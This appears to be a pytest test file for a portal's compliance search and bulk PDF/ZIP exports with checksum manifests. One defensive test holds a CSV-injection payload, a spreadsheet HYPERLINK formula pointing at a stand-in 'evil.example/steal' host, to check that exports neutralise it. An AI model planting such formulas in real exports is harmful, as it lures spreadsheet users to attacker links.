"""Compliance: searching every record, and bulk exports with a manifest that checks out."""

import csv
import datetime as dt
import hashlib
import io
import tempfile
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from portal import storage
from portal.extensions import db
from portal.models import AuditEvent, Export, ExportState, SubmissionStatus
from portal.services import submissions
from portal.services.submissions import Files

PETTY_CASH = {
    "title": "Petty cash",
    "amount_field": "amount",
    "summary_fields": ["purpose"],
    "fields": [
        {"type": "text", "name": "purpose", "label": "Purpose", "required": True},
        {"type": "money", "name": "amount", "label": "Amount", "currency": "EUR", "required": True},
    ],
}


@pytest.fixture
def many(app, org, publish):
    """submit_many(n): n petty-cash requests (Alice's, every tenth Bob's), through the service."""
    version = publish("petty_cash", PETTY_CASH)

    def submit_many(count: int, submitter=None, start: int = 0):
        made = []
        for number in range(start, start + count):
            person = submitter or (org.bob if number % 10 == 0 else org.alice)
            raw = {"purpose": f"Taxi receipt {number}", "amount": f"{10 + number}.50"}
            submission, evaluation = submissions.submit(person, version, raw, Files())
            assert submission is not None, evaluation.errors
            made.append(submission)
        db.session.commit()
        return made

    return submit_many


def compliance_urls(app) -> list[str]:
    """Every compliance route, from the URL map, so a new one cannot escape this test."""
    urls = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("compliance."):
            urls.append(rule.rule.replace("<int:export_id>", "1"))
    assert len(urls) >= 5
    return urls


@pytest.mark.parametrize("email", ["alice@example.com", "bob@example.com", "fiona@example.com"])
def test_every_compliance_url_is_403_for_everyone_else(app, browser, org, email):
    browser.login(email)
    for url in compliance_urls(app):
        response = browser.get(url) if not url.endswith("/exports") else browser.post(url, {})
        assert response.status_code == 403, url


def test_compliance_officers_and_admins_may_search(browser, org, many, make_user):
    make_user("ada@example.com", "Ada Byrne", groups=["admin"])
    many(3)
    for email in ("cora@example.com", "ada@example.com"):
        browser.login(email)
        page = browser.get("/compliance/")
        assert page.status_code == 200 and "3 records" in page.text
        browser.post("/logout")


def test_search_filters_by_form_status_amount_and_person(browser, org, many, vendor_invoice):
    many(20)
    browser.login("cora@example.com")
    assert "20 records" in browser.get("/compliance/?form=petty_cash").text
    assert "0 records" in browser.get("/compliance/?form=vendor_invoice").text
    assert "20 records" in browser.get("/compliance/?status=in_review").text
    assert "0 records" in browser.get("/compliance/?status=approved").text
    page = browser.get("/compliance/?amount_min=20&amount_max=25").text
    assert "5 records" in page  # 20.50 .. 24.50
    assert "2 records" in browser.get("/compliance/?person=bob").text  # Bob submitted 0 and 10
    assert "18 records" in browser.get("/compliance/?person=Alice%20Martin").text


def test_search_by_approver_finds_what_they_were_asked(approvals, org, vendor_invoice):
    approvals.submit_invoice()
    approvals.browser.login("cora@example.com")
    assert "1 record" in approvals.browser.get("/compliance/?person=bob@example.com").text
    assert "0 records" in approvals.browser.get("/compliance/?person=ivan").text


def test_search_by_submission_date_uses_the_portal_time_zone(browser, org, many, app):
    from portal import clock

    made = many(2)
    day = clock.today(app.config["BATON_TIMEZONE"]).isoformat()
    browser.login("cora@example.com")
    assert (
        f"{len(made)} records"
        in browser.get(f"/compliance/?submitted_from={day}&submitted_to={day}").text
    )
    assert "0 records" in browser.get("/compliance/?submitted_to=2000-01-01").text


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("submitted_from=yesterday", "is not a date like 2026-11-25"),
        ("amount_min=lots", "is not an amount like 1000 or 1250.50"),
        ("amount_min=1e999", "is not an amount like 1000 or 1250.50"),
        ("status=lost", "There is no status called &#39;lost&#39;"),
        (
            "submitted_from=2026-12-01&submitted_to=2026-11-01",
            "The &#39;from&#39; date is after the &#39;to&#39; date.",
        ),
    ],
)
def test_a_bad_filter_is_explained_and_lists_nothing(browser, org, many, query, message):
    many(3)
    browser.login("cora@example.com")
    page = browser.get(f"/compliance/?{query}")
    assert page.status_code == 422 and message in page.text
    assert "Taxi receipt" not in page.text and "0 records" in page.text
    assert "as PDFs (ZIP)" not in page.text  # nothing to export from a search that did not run


def test_an_export_with_nothing_in_it_is_refused(browser, org, many):
    browser.login("cora@example.com")
    response = browser.post("/compliance/exports", {"form": "no_such_form"})
    assert response.status_code == 302
    assert "Nothing matches these filters" in browser.get(response.location).text
    assert db.session.scalars(select(Export)).all() == []


@pytest.mark.slow
def test_bulk_export_of_200_records_has_a_manifest_that_checks_out(
    browser, org, many, app, run_jobs
):
    app.config["EXPORT_WORKERS"] = 2
    many(200)
    browser.login("cora@example.com")
    response = browser.post("/compliance/exports", {"form": "petty_cash", "status": "in_review"})
    # The worker below also runs the chains these requests started (this form has none, so
    # each is approved at once): the export shows each record as it is when rendered.
    assert response.status_code == 302
    export = db.session.scalars(select(Export)).one()
    assert export.total == 200 and export.state == ExportState.QUEUED
    progress = browser.get(f"/compliance/exports/{export.id}/progress").text
    assert 'hx-trigger="every 1s"' in progress and "Waiting for a worker" in progress

    run_jobs()
    db.session.expire_all()
    export = db.session.get(Export, export.id)
    assert export.state == ExportState.DONE, export.error
    done = browser.get(f"/compliance/exports/{export.id}/progress").text
    assert "hx-trigger" not in done and "Download the ZIP" in done and "200 records" in done

    download = browser.get(f"/compliance/exports/{export.id}/download")
    assert download.status_code == 200 and download.mimetype == "application/zip"
    body = download.get_data()
    download.close()
    assert hashlib.sha256(body).hexdigest() == export.sha256
    archive = zipfile.ZipFile(io.BytesIO(body))
    names = archive.namelist()
    assert len([n for n in names if n.startswith("records/")]) == 200
    manifest = archive.read("manifest.sha256").decode().splitlines()
    assert len(manifest) == 201  # 200 PDFs and the index
    for line in manifest:
        digest, name = line.split("  ", 1)
        assert hashlib.sha256(archive.read(name)).hexdigest() == digest, name
    rows = list(csv.DictReader(io.StringIO(archive.read("index.csv").decode())))
    assert len(rows) == 200 and {row["status"] for row in rows} == {"approved"}
    assert all(row["audit_verified"] == "yes" for row in rows)
    amounts = sorted(Decimal(row["amount"]) for row in rows)
    assert amounts[0] == Decimal("10.50") and amounts[-1] == Decimal("209.50")
    sample = PdfReader(io.BytesIO(archive.read(rows[0]["file"])))
    assert "Petty cash" in sample.pages[0].extract_text()
    actions = [
        e.action for e in db.session.scalars(select(AuditEvent).where(AuditEvent.chain == "admin"))
    ]
    assert {"export_started", "export_finished", "export_downloaded"} <= set(actions)


def test_the_export_index_keeps_formulas_from_peoples_text_as_text(
    browser, org, app, publish, run_jobs, mailbox
):
    version = publish("petty_cash", PETTY_CASH)
    formula = '=HYPERLINK("https://evil.example/steal","Open the receipt")'
    raw = {"purpose": formula, "amount": "12.50"}
    assert submissions.submit(org.alice, version, raw, Files())[0] is not None
    db.session.commit()
    browser.login("cora@example.com")
    browser.post("/compliance/exports", {"form": "petty_cash", "status": "in_review"})
    run_jobs()
    export = db.session.scalars(select(Export)).one()
    download = browser.get(f"/compliance/exports/{export.id}/download")
    archive = zipfile.ZipFile(io.BytesIO(download.get_data()))
    download.close()
    (row,) = csv.DictReader(io.StringIO(archive.read("index.csv").decode()))
    assert row["summary"] == "'" + formula  # a spreadsheet shows it as text
    assert Decimal(row["amount"]) == Decimal("12.50")  # a number stays a number


@pytest.mark.slow
def test_an_export_reuses_renderings_that_exist(browser, org, many, app, run_jobs, mailbox):
    from portal.models import AuditPdf
    from portal.services import records

    app.config["EXPORT_WORKERS"] = 1
    made = many(2)
    run_jobs()  # the requests' own jobs first, so the records stop changing
    records.render(made[0], org.cora)
    db.session.commit()
    browser.login("cora@example.com")
    browser.post("/compliance/exports", {"form": "petty_cash"})
    run_jobs()
    assert len(db.session.scalars(select(AuditPdf)).all()) == 2  # one new, one reused
    assert db.session.scalars(select(Export)).one().state == ExportState.DONE


def test_the_records_page_lists_newest_first_with_links(browser, org, many):
    many(3)
    browser.login("cora@example.com")
    page = browser.get("/compliance/").text
    assert page.index("Taxi receipt 2") < page.index("Taxi receipt 0")
    assert 'href="/submissions/3/audit.pdf"' in page
    assert "Export these 3 as PDFs (ZIP)" in page


def test_statuses_offered_are_the_submitted_ones(browser, org):
    browser.login("cora@example.com")
    page = browser.get("/compliance/").text
    assert SubmissionStatus.DRAFT.label not in page.split('id="status"')[1].split("</select>")[0]


def export_of(browser, many, count: int) -> Export:
    many(count)
    browser.login("cora@example.com")
    browser.post("/compliance/exports", {"form": "petty_cash"})
    return db.session.scalars(select(Export)).one()


@pytest.mark.slow
def test_an_export_taken_over_by_another_worker_stops_without_finishing(
    browser, org, many, app, run_jobs, monkeypatch
):
    """A worker presumed dead (its lease ran out) may still be alive: it must step aside."""
    from portal import clock, outbox
    from portal.jobs import Claim
    from portal.models import OutboxMessage
    from portal.services import exports

    app.config["EXPORT_WORKERS"] = 1
    export = export_of(browser, many, 3)
    claims = []

    def keep(claim):
        claims.append(claim.message_id)
        return len(claims) < 3  # the claim is lost after the second record

    monkeypatch.setattr(Claim, "keep", keep)
    run_jobs()
    db.session.expire_all()
    export = db.session.get(Export, export.id)
    assert export.state == ExportState.RUNNING and export.done == 2 and export.path is None
    assert not list(storage.current().keys(exports.EXPORT_FOLDER))
    scratch = Path(tempfile.gettempdir())
    assert not list(scratch.glob(f"baton-export-{export.id}-*"))  # the attempt's scratch file
    row = db.session.scalars(select(OutboxMessage).where(OutboxMessage.job == "build_export")).one()
    monkeypatch.undo()
    # The worker that took it over finishes it: handed over again by the sweep, built once.
    row.enqueued_at = clock.now() - dt.timedelta(minutes=10)
    db.session.commit()
    assert outbox.relay_due() == 1
    run_jobs()
    db.session.expire_all()
    export = db.session.get(Export, export.id)
    assert export.state == ExportState.DONE and export.done == 3
    assert [key for key, _ in storage.current().keys(exports.EXPORT_FOLDER)] == [export.path]
    assert not list(scratch.glob(f"baton-export-{export.id}-*"))


def test_keeping_the_claim_renews_the_lease_and_fails_once_the_row_is_gone(browser, org, many, app):
    from portal import clock
    from portal.jobs import Claim
    from portal.models import OutboxMessage

    export_of(browser, many, 1)
    row = db.session.scalars(select(OutboxMessage).where(OutboxMessage.job == "build_export")).one()
    row.enqueued_at = clock.now() - dt.timedelta(minutes=10)
    db.session.commit()
    assert Claim(row.id).keep() is True
    db.session.commit()
    db.session.refresh(row)
    assert row.enqueued_at > clock.now() - dt.timedelta(minutes=1)
    db.session.delete(row)
    db.session.commit()
    assert Claim(row.id).keep() is False


@pytest.mark.slow
def test_a_failed_export_says_why_and_is_audited(browser, org, many, app, run_jobs, monkeypatch):
    from portal.services import records

    app.config["EXPORT_WORKERS"] = 1
    export = export_of(browser, many, 2)

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(records, "open_pdf", broken)
    run_jobs()
    db.session.expire_all()
    export = db.session.get(Export, export.id)
    assert export.state == ExportState.FAILED and "disk full" in export.error
    failed = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export_failed")
    ).one()
    assert failed.chain == "admin" and failed.details["export"] == export.id
    page = browser.get(f"/compliance/exports/{export.id}/progress").text
    assert "disk full" in page


@pytest.mark.parametrize("asked", ["99999999999999999999", "40", "-2", "abc"])
@pytest.mark.parametrize(
    "who, url", [("cora@example.com", "/compliance/"), ("alice@example.com", "/submissions")]
)
def test_any_page_number_shows_a_real_page(browser, org, many, who, url, asked):
    many(3, submitter=org.alice)
    browser.login(who)
    response = browser.get(f"{url}?page={asked}")
    assert response.status_code == 200
    assert "Taxi receipt 2" in response.text  # the only page, whatever was asked


def test_an_export_waiting_for_a_bulk_worker_does_not_delay_an_email(
    browser, org, many, app, run_jobs, mailbox
):
    """Only a worker of the default queue is free: the requests' chains and their emails are
    done, while the export waits on the bulk queue for a worker of its own."""
    from portal import queue
    from portal.jobs.registry import QueueKind

    app.config["EXPORT_WORKERS"] = 1
    export = export_of(browser, many, 2)  # two requests, each approved at once, and an export
    assert len(queue.queue(app, QueueKind.BULK)) == 1

    run_jobs(QueueKind.DEFAULT)
    db.session.expire_all()
    assert len(mailbox.messages) == 2  # "Your request was approved", for Alice and for Bob
    assert db.session.get(Export, export.id).state == ExportState.QUEUED
    assert len(queue.queue(app, QueueKind.BULK)) == 1

    run_jobs(QueueKind.BULK)
    db.session.expire_all()
    assert db.session.get(Export, export.id).state == ExportState.DONE


def test_a_second_export_while_ones_own_is_built_is_refused_and_writes_nothing(
    browser, org, many, app, run_jobs, make_user
):
    from sqlalchemy import func

    from portal.models import OutboxMessage

    def counts():
        db.session.expire_all()
        return [
            db.session.scalar(select(func.count()).select_from(model))
            for model in (Export, OutboxMessage, AuditEvent)
        ]

    app.config["EXPORT_WORKERS"] = 1
    first = export_of(browser, many, 2)
    before = counts()
    response = browser.post("/compliance/exports", {"form": "petty_cash"})
    assert response.status_code == 302
    page = browser.get(response.location).text
    assert f"Your export {first.id} is still being built" in page
    assert "one export at a time per person" in page
    assert counts() == before

    browser.post("/logout")  # someone else's export is theirs to start
    make_user("ada@example.com", "Ada Byrne", groups=["admin"])
    browser.login("ada@example.com")
    assert browser.post("/compliance/exports", {"form": "petty_cash"}).status_code == 302
    assert len(db.session.scalars(select(Export)).all()) == 2

    run_jobs()  # both built: Cora may start the next
    browser.post("/logout")
    browser.login("cora@example.com")
    response = browser.post("/compliance/exports", {"form": "petty_cash"})
    assert response.location.startswith("/compliance/exports/")
    assert len(db.session.scalars(select(Export)).all()) == 3
